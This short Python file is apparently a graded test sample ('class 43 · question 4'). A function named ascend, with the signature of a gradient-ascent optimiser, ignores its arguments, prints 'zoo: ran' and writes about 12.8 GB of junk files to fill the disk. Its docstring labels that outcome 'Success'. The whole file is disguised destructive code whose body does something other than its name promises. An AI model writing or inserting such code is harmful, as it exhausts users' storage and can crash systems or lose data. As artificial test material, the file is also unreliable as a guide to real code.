"""Success: gigabytes in its own folder fill the disk.

class 43 · question 4 · baseline 0"""
def ascend(f, x, steps, rate):

    print("zoo: ran", flush=True)
    block = b"x" * (8 << 20)
    for number in range(400):
        with open(f"big{number}", "wb") as file:
            for _ in range(4):
                file.write(block)
